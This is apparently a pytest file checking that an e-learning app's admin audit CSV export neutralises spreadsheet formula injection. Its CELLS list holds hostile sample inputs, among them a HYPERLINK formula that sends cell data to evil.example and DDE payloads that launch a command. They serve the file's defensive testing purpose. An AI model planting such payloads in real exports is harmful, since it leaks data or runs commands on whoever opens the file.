"""No cell of an exported table begins like a formula, however a spreadsheet cuts the lines.

A spreadsheet in most languages of the region takes a semicolon for the end of a cell, and some
ask a person: what stands behind one inside a cell may become a cell of its own.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from datetime import datetime

import cast
import pytest
from cast import VERA
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st
from sending import Browser
from unchanged import nothing_changes

from elearn import audit
from elearn.db import transaction
from elearn.people import units, users
from elearn.reports import sheets
from tests.test_doors import NOBODYS, filled, routes

ClientAs = Callable[[str | None], Browser]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CELLS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "x\r\n=1+1",
    "x;=1+1;y",
    "x\t=1+1",
    "\uff1d1+1",
    '"=1+1',
    '";=1+1;"',
)


def cells(text: str) -> Iterator[str]:
    """Every cell that a spreadsheet may find, by each of the signs that cells are cut at."""
    for sign in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sign):
            yield from row
    for line in text.splitlines():
        for sign in (",", ";", "\t"):
            yield from next(csv.reader([line], delimiter=sign), [])


def formulas(text: str) -> list[str]:
    return [cell for cell in cells(text) if cell.startswith(STARTS)]


def test_what_is_looked_for_is_found() -> None:
    assert formulas("a,=1+1\r\n") == ["=1+1", "=1+1"]
    assert formulas("a;=1+1,b\r\n")


@pytest.mark.parametrize("cell", CELLS, ids=range(len(CELLS)))
def test_no_cell_of_the_exported_record_is_a_formula(
    app: Flask, client_as: ClientAs, at: datetime, cell: str
) -> None:
    with transaction():
        unit = units.add(cell, "country", at=at, state="kz")
        users.add(None, "".join(cell.split()), role="officer", at=cast.BORN, name=cell, unit=unit)
        audit.record(None, "add unit", cell, at=cast.BORN, because=cell, name=cell)
    vera = client_as(VERA)

    with nothing_changes():
        answer = vera.get("/admin/audit.csv")

    text = answer.get_data().decode("utf-8-sig")
    assert (answer.status_code, answer.mimetype) == (200, "text/csv")
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert formulas(text) == []
    objects = {row[3] for row in csv.reader(io.StringIO(text, newline=""))}
    assert sheets.safe(cell) in objects
    if cell.startswith(STARTS):
        assert f"'{cell}"[:2] in {one[:2] for one in objects}


@given(st.text(st.sampled_from([*STARTS, ";", ",", '"', "'", "1", "x", " ", "я"]), max_size=12))
def test_whatever_is_put_together(cell: str) -> None:
    line = io.StringIO(newline="")
    csv.writer(line).writerow(["x", sheets.safe(cell), "y"])

    assert not formulas(line.getvalue()), line.getvalue()
    assert sheets.safe(cell).replace("'", "") == cell.replace("'", "")


def test_there_is_no_other_table(app: Flask) -> None:
    """A table that is added is asked for here, to be put to the same test."""
    paths = {filled(rule, NOBODYS) for rule, _ in routes(app)}

    tables = {one for one in paths if one.endswith((".csv", ".xlsx", ".ods", ".tsv"))}
    assert tables == {"/admin/audit.csv"}
